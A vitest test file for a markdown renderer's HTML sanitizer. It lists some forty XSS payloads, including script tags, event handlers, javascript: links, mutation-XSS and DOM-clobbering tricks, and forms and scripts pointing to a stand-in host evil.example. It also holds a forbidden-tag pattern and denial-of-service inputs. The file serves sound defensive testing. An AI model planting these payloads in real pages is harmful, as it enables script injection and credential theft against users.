import fc from "fast-check"
import { expect, test } from "vitest"
import { plainText, renderMarkdown } from "../src/index.ts"

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='x' oNeRrOr='alert(1)'>",
  "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x></object><embed src=x>",
  "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='  JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java&#x0A;script:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "<javascript:alert(1)>",
  "[a]: javascript:alert(1)\n\n[a]",
  "<div style='background:url(javascript:alert(1))'>x</div>",
  "<style>@import 'https://evil.example'</style>",
  "<link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
  "<img name=getElementById id=location src=x>",
  "<form id=document><input id=cookie></form>",
  "<video src=javascript:alert(1) onplay=alert(1)><source onerror=alert(1)></video>",
  "<img srcset='javascript:alert(1) 1x, x.png 2x'>",
  "<picture><source srcset='javascript:alert(1)'></picture>",
  "<details open ontoggle=alert(1)>x</details>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  '```js"onmouseover=alert(1)\n<script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)> [[a"onclick=alert(1)]]',
  "> [!NOTE]<script>alert(1)</script>",
  "| <script>alert(1)</script> |\n|---|\n| <img onerror=alert(1)> |",
  "[^x]\n\n[^x]: <script>alert(1)</script>",
]

const FORBIDDEN_TAGS =
  /<(?:script|style|iframe|object|embed|form|button|textarea|select|link|meta|base|math|template|noscript|animate)\b/i

/** Tags of the HTML with their attributes: quoted text and text between tags cannot do harm. */
function tagsOf(html: string): string[] {
  return html.match(/<[a-z][^\s/>]*(?:\s+[^\s=>]+(?:="[^"]*")?)*\s*\/?>/gi) ?? []
}

function expectHarmless(html: string): void {
  expect(html).not.toMatch(FORBIDDEN_TAGS)
  for (const tag of tagsOf(html)) {
    const bare = tag.replace(/="[^"]*"/g, "=")
    expect(bare).not.toMatch(/\s(?:on\w+|style|srcdoc|formaction|xlink:href)=/i)
    expect(tag).not.toMatch(/\s(?:href|src)="\s*(?:javascript|vbscript):/i)
    expect(tag).not.toMatch(/\shref="\s*data:/i)
    expect(tag).not.toMatch(/\ssrcset="[^"]*(?:javascript|data):/i)
  }
}

test.each(HOSTILE)("makes harmless: %s", async (source) => {
  for (const trust of ["untrusted", "trusted"] as const) {
    const { html } = await renderMarkdown(source, { trust })
    expectHarmless(html)
  }
})

test("prefixes ids and names of raw HTML in untrusted texts so that they cannot hide the page's own", async () => {
  const { ids } = await renderMarkdown('<a name="location"></a><p id="cookie">x</p>', { trust: "untrusted" })
  expect(ids).toEqual(["user-content-location", "user-content-cookie"])
})

test("allows pictures in the address for img only, and only as bitmaps", async () => {
  const png = "data:image/png;base64,iVBORw0KGgo="
  const { html } = await renderMarkdown(`<img src="${png}"><video src="${png}"></video>[x](${png})`, {
    trust: "untrusted",
  })
  expect(html).toContain(`<img src="${png}"`)
  expect(html).toContain("<video></video>")
  expect(html).toContain("<a>x</a>")
})

const PIECES = [
  "<",
  ">",
  "</",
  "/>",
  "div",
  "img",
  "script",
  " style=",
  " onclick=",
  '"',
  "'",
  "x",
  "(",
  ")",
  "[",
  "]",
  "!",
  "`",
  "*",
  "#",
  "> ",
  "- ",
  "\n",
  "|",
  "&",
  "javascript:",
  "{",
  "}",
  "svg",
  "a href=",
]

test("never writes style attributes or event handlers, whatever the source", async () => {
  const sources = fc.oneof(
    fc.string(),
    fc.array(fc.constantFrom(...PIECES), { maxLength: 30 }).map((all) => all.join("")),
  )
  await fc.assert(
    fc.asyncProperty(sources, async (source) => {
      const { html } = await renderMarkdown(source, { trust: "untrusted" })
      expectHarmless(html)
    }),
    { numRuns: 400 },
  )
})

test.each([
  ["quotes", ">".repeat(50_000)],
  ["open brackets", "[".repeat(50_000)],
  ["links in links", "[a](".repeat(50_000)],
  ["parentheses", "(".repeat(50_000)],
  ["emphasis", "*a **b ".repeat(20_000)],
  ["code spans", "`a``b```c".repeat(10_000)],
  ["open tags", "<div>".repeat(50_000)],
  ["nested lists", Array.from({ length: 2000 }, (_, depth) => `${" ".repeat(depth * 2)}- a`).join("\n")],
  ["equal headings", "# a\n".repeat(3000)],
  ["definitions", "[a]: b\n".repeat(50_000)],
  ["quotes in list items", "- > a\n".repeat(19_900)],
  ["lists in list items", "- a\n  - b\n".repeat(9_500)],
  ["quotes below each other", "> a\r\r".repeat(9_900)],
  ["wide tables", `${"|a".repeat(5000)}\n${"|-".repeat(5000)}\n${`${"|a".repeat(5000)}\n`.repeat(20)}`],
])("renders a heap of %s without hanging", async (_what, source) => {
  const started = performance.now()
  const { html } = await renderMarkdown(source, { trust: "untrusted" })
  expect(html).not.toBe("")
  expect(performance.now() - started).toBeLessThan(8_000)
})

test("shows what comes behind too many quotes as it was written, and leaves fifteen hundred alone", async () => {
  const many = await renderMarkdown(`[a]: /b\n\n${"> [a]\n\n".repeat(4_500)}<b>end</b>`, { trust: "untrusted" })
  expect(many.html.match(/<blockquote>/g)?.length).toBeGreaterThan(1_000)
  expect(many.html).toMatch(/<p class="cut">This text has too many lists and quotes; from line [\d,]+ on/)
  expect(many.html).toContain("&#x3C;b>end&#x3C;/b>")
  const some = await renderMarkdown("- a\n  > b\n\nc\n\n".repeat(750), { trust: "untrusted" })
  expect(some.html.match(/<blockquote>/g)).toHaveLength(750)
  expect(some.html).not.toContain("too many")
})

test("cuts a text above the limit and says so", async () => {
  const render = (chars: number) => renderMarkdown("a".repeat(chars), { trust: "untrusted", maxChars: 100 })
  expect(await render(99)).toMatchObject({ isCut: false })
  expect(await render(100)).toMatchObject({ isCut: false })
  const cut = await render(101)
  expect(cut.isCut).toBe(true)
  expect(cut.html).toContain("This text is longer than 100 characters")
})

test("gives plain text of a heap of marks without failing", () => {
  expect(plainText("*a **b ".repeat(5000))).toContain("a b")
})
